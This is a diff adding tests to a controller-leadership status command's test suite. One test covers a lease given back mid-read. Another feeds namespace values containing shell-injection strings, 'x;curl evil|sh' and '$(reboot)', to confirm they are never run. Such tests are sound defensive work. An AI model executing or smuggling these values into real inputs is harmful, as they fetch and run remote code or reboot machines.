@@ -306,6 +306,23 @@ describe('whether a controller leads', () => {
     expect(JSON.parse((await bench.run('status', '-o', 'json')).out)).toHaveProperty('noLeader');
   });
 
+  test('who gives the lease back between two looks does not lead', async () => {
+    await holds('pod-1', 3_600_000);
+    const slow = bench.run('status');
+    await new Promise((resolve) => setTimeout(resolve, 100));
+    await holds('', 3_600_000);
+    expect((await slow).out).toMatch(/^no controller has led for 60m|^no controller has led for 1h/);
+  });
+
+  test.each(['x;curl evil|sh', '$(reboot)', 'x\ny', '-n', 'Ä', 'a.b'])(
+    'no command is made of %j, which is no name of a namespace',
+    async (namespace) => {
+      seedNode('node-a', {}, { agent: { version: '1', startedAt: at(0), reportedAt: at(0), namespace } });
+      const { out } = await bench.run('status');
+      expect(out.split('\n')[0]).toMatch(/^no controller has led$/);
+    },
+  );
+
   test('is not known to whoever may not look', async () => {
     bench.server.deny(({ resource }) => resource === LEASES.plural);
     expect((await bench.run('status')).out).toMatch(/^it is not known whether a controller leads: /);
